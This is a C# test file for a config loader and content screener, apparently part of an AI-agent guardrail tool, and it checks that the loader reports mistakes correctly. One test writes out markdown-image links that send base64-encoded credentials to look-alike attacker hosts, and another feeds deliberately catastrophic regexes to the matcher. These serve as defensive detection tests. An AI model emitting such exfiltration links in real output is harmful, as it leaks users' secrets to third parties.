using Custos.Cedar.Ast;
using Custos.Core.Approvals;
using Custos.Core.Configuration;
using Custos.Core.Policies;
using Custos.Core.Screening;
using Custos.Detection.Redaction;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace Custos.Core.Tests.Screening;

public sealed class ScreeningConfigTests
{
    private static ConfigLoadResult Parse(string extra) =>
        ConfigLoader.Parse(StarterWorkspace.Yaml + "\n" + extra, "custos.yaml", "/srv/custos.yaml");

    private static int LineOf(string extra, string needle)
    {
        var lines = (StarterWorkspace.Yaml + "\n" + extra).Split('\n');
        return Array.FindIndex(lines, l => l.Contains(needle, StringComparison.Ordinal)) + 1;
    }

    [Fact]
    public void Without_a_screening_section_the_secure_defaults_apply()
    {
        var screening = Parse(string.Empty).GetConfigOrThrow().Screening;
        Assert.Equal(new ScreeningRule(ScreeningAction.Block, ScreeningAction.Redact, RedactionMethod.Replace), screening.RuleFor(null, "SECRET"));
        Assert.Equal(ScreeningAction.Redact, screening.RuleFor(null, "EMAIL_ADDRESS").Out);
        Assert.Equal(ScreeningAction.Escalate, screening.RuleFor(null, "PROMPT_INJECTION").In);
        Assert.Equal(ApprovalSettings.DefaultTimeout, Parse(string.Empty).GetConfigOrThrow().Approvals.Timeout);
    }

    [Fact]
    public void A_rule_sets_actions_and_redaction_and_keeps_what_it_does_not_name()
    {
        var config = Parse("""
            screening:
              min_score: 0.7
              types:
                EMAIL_ADDRESS: {in: redact, redaction: mask}
                PHONE_NUMBER: block
            approvals:
              timeout: 90s
            """).GetConfigOrThrow();
        Assert.Equal(new ScreeningRule(ScreeningAction.Redact, ScreeningAction.Redact, RedactionMethod.Mask), config.Screening.RuleFor(null, "EMAIL_ADDRESS"));
        Assert.Equal((ScreeningAction.Block, ScreeningAction.Block), (config.Screening.RuleFor(null, "PHONE_NUMBER").In, config.Screening.RuleFor(null, "PHONE_NUMBER").Out));
        Assert.Equal(0.7, config.Screening.MinimumScore);
        Assert.Equal(TimeSpan.FromSeconds(90), config.Approvals.Timeout);
    }

    [Fact]
    public void Mistakes_are_reported_at_their_line_with_a_suggestion()
    {
        const string extra = """
            screening:
              typos: {}
              types:
                EMAIL: allow
                email_address: allow
                SECRET: {in: blok, out: redact, redaction: token}
                IBAN_CODE: {out: redact, redaction: scramble}
                US_SSN: {inn: block}
              agents:
                ghost-agent: {}
                dev-agent: {SECRET: {out: allow}}
              min_score: 2
            approvals:
              timeout: soon
            """;
        var result = Parse(extra);
        Assert.False(result.IsValid);
        var messages = result.Diagnostics.Select(d => $"{d.Line}: {d.Message}").ToList();
        void Has(string needle, string text) =>
            Assert.Contains(messages, m => m.StartsWith($"{LineOf(extra, needle)}: ", StringComparison.Ordinal) && m.Contains(text, StringComparison.Ordinal));
        Has("typos:", "unknown key 'typos' in screening (did you mean 'types'?)");
        Has("EMAIL: allow", "'EMAIL' is not a finding type");
        Has("EMAIL: allow", "needs a pattern");
        Has("email_address: allow", "(did you mean 'EMAIL_ADDRESS'?)");
        Has("SECRET: {in: blok", "(did you mean 'block'?)");
        Has("IBAN_CODE:", "must be one of: replace, mask, hash, partial, token");
        Has("US_SSN: {inn", "unknown key 'inn' in screening.types.US_SSN (did you mean 'in'?)");
        Has("ghost-agent", "'ghost-agent' is not defined under agents");
        Has("min_score: 2", "between 0 and 1");
        Has("timeout: soon", "approvals.timeout must be a duration");
        Assert.DoesNotContain(messages, m => m.Contains("dev-agent", StringComparison.Ordinal));
    }

    [Fact]
    public void A_grant_requiring_approval_compiles_to_an_annotated_permit()
    {
        var yaml = StarterWorkspace.Yaml.Replace("  - id: finance-drafts-invoices\n", "  - id: finance-drafts-invoices\n    approval: required\n", StringComparison.Ordinal);
        var config = ConfigLoader.Parse(yaml, "custos.yaml", "/srv/custos.yaml").GetConfigOrThrow();
        var policy = Assert.Single(GrantCompiler.Compile(config), p => p.Id == "finance-drafts-invoices");
        Assert.Contains(new Annotation("approval", "required"), policy.Annotations);
        Assert.Equal(["finance-drafts-invoices"], ApprovalRules.RequiringApproval(config.Policies));

        var wrong = ConfigLoader.Parse(yaml.Replace("approval: required", "approval: requried", StringComparison.Ordinal), "custos.yaml", "/srv/custos.yaml");
        Assert.Contains(wrong.Diagnostics, d => d.Message.Contains("approval must be 'required'", StringComparison.Ordinal) && d.Message.Contains("did you mean 'required'?", StringComparison.Ordinal));
    }

    [Fact]
    public void The_national_id_vat_birth_date_and_crypto_types_take_rules_and_have_defaults()
    {
        var config = Parse("""
            screening:
              types:
                UK_NINO: {in: block, out: redact, redaction: partial}
                UK_NHS: block
                DE_VAT_ID: {out: allow}
                IT_VAT_CODE: {out: allow}
                EU_VAT_ID: {in: redact}
                DATE_TIME: {in: redact, redaction: replace}
                CRYPTO: {out: redact, redaction: hash}
            """).GetConfigOrThrow().Screening;
        Assert.Equal(new ScreeningRule(ScreeningAction.Block, ScreeningAction.Redact, RedactionMethod.Partial), config.RuleFor(null, "UK_NINO"));
        Assert.Equal((ScreeningAction.Block, ScreeningAction.Block), (config.RuleFor(null, "UK_NHS").In, config.RuleFor(null, "UK_NHS").Out));
        Assert.Equal(ScreeningAction.Allow, config.RuleFor(null, "DE_VAT_ID").Out);
        Assert.Equal(ScreeningAction.Redact, config.RuleFor(null, "EU_VAT_ID").In);
        Assert.Equal(RedactionMethod.Hash, config.RuleFor(null, "CRYPTO").Redaction);

        var defaults = Parse(string.Empty).GetConfigOrThrow().Screening;
        Assert.Equal(new ScreeningRule(ScreeningAction.Redact, ScreeningAction.Redact, RedactionMethod.Mask), defaults.RuleFor(null, "UK_NINO"));
        Assert.Equal(RedactionMethod.Mask, defaults.RuleFor(null, "DATE_TIME").Redaction);

        var typo = Parse("""
            screening:
              types:
                UK_NIN0: block
            """);
        Assert.False(typo.IsValid);
        Assert.Contains(typo.Diagnostics, d => d.Message.Contains("UK_NINO", StringComparison.Ordinal));
    }

    [Fact]
    public void The_generated_schema_types_finding_counts_for_every_known_type()
    {
        var schema = CustosSchema.Generate();
        Assert.Contains("findingCounts: FindingCounts,", schema, StringComparison.Ordinal);
        foreach (var type in ScreeningSettings.KnownTypes)
        {
            Assert.Contains($"    {type}: Long,", schema, StringComparison.Ordinal);
        }

        // Policies that read the counts validate against it (the starter's guardrails read context.findings).
        Assert.True(Parse(string.Empty).IsValid);
    }

    [Fact]
    public void Allowed_domains_reach_the_scanner_and_allow_their_subdomains()
    {
        var config = Parse("""
            screening:
              allowed_domains: [Trusted.Example., partner.io]
            """).GetConfigOrThrow();
        Assert.Equal(["partner.io", "trusted.example"], config.Screening.AllowedDomains.Order(StringComparer.Ordinal));
        var data = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("password=hunter2 and more data here"));
        var screener = new Screener(config.Screening, Path.GetTempPath());
        string Types(string url) => string.Join(",", screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = $"![x]({url}?d={data})" }), null).Select(f => f.Type));
        Assert.DoesNotContain("EXFILTRATION", Types("https://cdn.trusted.example/p.png"), StringComparison.Ordinal);
        Assert.DoesNotContain("EXFILTRATION", Types("https://partner.io/p.png"), StringComparison.Ordinal);
        // Suffix match on whole labels: a look-alike domain is not a subdomain.
        Assert.Contains("EXFILTRATION", Types("https://eviltrusted.example/p.png"), StringComparison.Ordinal);
        Assert.Contains("EXFILTRATION", Types("https://trusted.example.attacker.net/p.png"), StringComparison.Ordinal);
        Assert.Contains("EXFILTRATION", new Screener(Parse(string.Empty).GetConfigOrThrow().Screening, Path.GetTempPath())
            .ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = $"![x](https://cdn.trusted.example/p.png?d={data})" }), null).Select(f => f.Type));
    }

    [Fact]
    public void Bad_allowed_domains_are_reported_at_their_line_and_column()
    {
        const string extra = """
            screening:
              allowed_domains:
                - https://trusted.example/
                - "*.wild.example"
                - com
                - a..example
                - ok.example
                - {host: x}
            """;
        var result = Parse(extra);
        Assert.False(result.IsValid);
        void Has(string needle, string text) =>
            Assert.Contains(result.Diagnostics, d => d.Line == LineOf(extra, needle) && d.Column == 7 && d.Message.Contains(text, StringComparison.Ordinal));
        Has("https://trusted", "not a bare domain");
        Has("*.wild", "write 'wild.example'");
        Has("- com", "whole top-level domain");
        Has("a..example", "empty label");
        Has("{host: x}", "must be a domain");
        Assert.DoesNotContain(result.Diagnostics, d => d.Line == LineOf(extra, "ok.example"));
        Assert.Contains(Parse("screening:\n  allowed_domains: example.com").Diagnostics, d => d.Message.Contains("must be a list of domains", StringComparison.Ordinal));
    }

    [Fact]
    public void A_type_of_ones_own_is_found_scored_by_context_validated_and_acted_on()
    {
        var config = Parse("""
            screening:
              types:
                EMPLOYEE_ID: {pattern: 'EMP-\d{6}', context: [employee, staff], score: 0.4, in: redact, out: block, redaction: mask}
                LOYALTY_CARD: {pattern: '\b\d{4} \d{4} \d{4} \d{4}\b', validator: luhn, score: 0.9}
              agents:
                dev-agent: {EMPLOYEE_ID: {in: allow}}
            """).GetConfigOrThrow();
        var screener = new Screener(config.Screening, Path.GetTempPath());
        List<ScreeningFinding> Find(string text, string? agent = null) => screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text }), agent);

        // Score 0.4 is under min_score 0.5: only with a context word nearby (+0.35) is it reported.
        Assert.DoesNotContain(Find("ticket EMP-123456 closed"), f => f.Type == "EMPLOYEE_ID");
        var found = Assert.Single(Find("the employee EMP-123456 left"), f => f.Type == "EMPLOYEE_ID");
        Assert.Equal((13, 23, ScreeningAction.Redact, "custom"), (found.Start, found.End, found.Action, found.Detector));
        Assert.Equal(ScreeningAction.Allow, Assert.Single(Find("the employee EMP-123456 left", "dev-agent"), f => f.Type == "EMPLOYEE_ID").Action);
        Assert.Contains("\"text\":\"the employee ***-****** left\"", screener.RedactArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = "the employee EMP-123456 left" }), "other").GetRawText(), StringComparison.Ordinal);

        // The validator: a number failing Luhn is not the type.
        Assert.Contains(Find("card 4111 1111 1111 1111"), f => f.Type == "LOYALTY_CARD" || f.Type == "CREDIT_CARD");
        Assert.DoesNotContain(Find("card 4111 1111 1111 1112"), f => f.Type == "LOYALTY_CARD");
    }

    [Fact]
    public void Patterns_that_cannot_run_in_linear_time_or_do_not_parse_are_refused_at_their_line()
    {
        const string extra = """
            screening:
              types:
                BACKREF: {pattern: '(a)\1'}
                LOOKAHEAD: {pattern: 'x(?=y)'}
                BROKEN: {pattern: 'EMP-(\d{6}'}
                lower_case: {pattern: 'abc'}
                CHECKED: {pattern: 'C\d+', validator: luhnn, score: 7}
              agents:
                dev-agent: {NOPE_TYPE: block}
            """;
        var result = Parse(extra);
        Assert.False(result.IsValid);
        void Has(string needle, string text) =>
            Assert.Contains(result.Diagnostics, d => d.Line == LineOf(extra, needle) && d.Column > 1 && d.Message.Contains(text, StringComparison.Ordinal));
        Has("BACKREF", "needs backtracking");
        Has("LOOKAHEAD", "needs backtracking");
        Has("BROKEN", "not a valid regular expression");
        Has("lower_case", "capitals, digits and underscores");
        Has("CHECKED", "validator must be one of: none, luhn, mod97 (did you mean 'luhn'?)");
        Has("CHECKED", "score must be a number between 0 and 1");
        Has("NOPE_TYPE", "is not a finding type");
    }

    [Fact]
    public void A_hostile_pattern_stays_linear_on_a_large_adversarial_input()
    {
        var config = Parse("""
            screening:
              types:
                EVIL: {pattern: '(a+)+$', score: 0.9}
                EVIL2: {pattern: '(a|aa)*b', score: 0.9}
            """).GetConfigOrThrow();
        var screener = new Screener(config.Screening, Path.GetTempPath());
        var text = new string('a', 1_000_000) + "!";
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var findings = screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text }), null);
        watch.Stop();
        Assert.DoesNotContain(findings, f => f.Type is "EVIL" or "EVIL2");
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"took {watch.Elapsed}");
    }

    /// <summary>Any pattern made of regex pieces either compiles into a type that scans, or is one diagnostic at its line; never a throw.</summary>
    [Property(MaxTest = 300)]
    public Property Any_pattern_is_a_working_type_or_a_diagnostic() =>
        Prop.ForAll(
            Gen.ListOf(Gen.Elements("a", "(", ")", "+", "*", "?", "\\d", "\\1", "(?=", "(?<", "[", "]", "{2,}", "|", "^", "$", ".", "\\b", "(?>", "\\")).Select(parts => string.Concat(parts)).ToArbitrary(),
            pattern =>
            {
                var quoted = "'" + pattern.Replace("'", "''", StringComparison.Ordinal) + "'";
                var extra = $"screening:\n  types:\n    GEN_TYPE: {{pattern: {quoted}, score: 0.9}}\n";
                var result = Parse(extra);
                if (!result.IsValid)
                {
                    return result.Diagnostics.Count > 0 && result.Diagnostics.All(d => d.Line == LineOf(extra, "GEN_TYPE") && d.Column > 1);
                }

                var screener = new Screener(result.GetConfigOrThrow().Screening, Path.GetTempPath());
                _ = screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = "aaaa 1234 b " + new string('a', 2000) }), null);
                return pattern.Length > 0;
            });
}
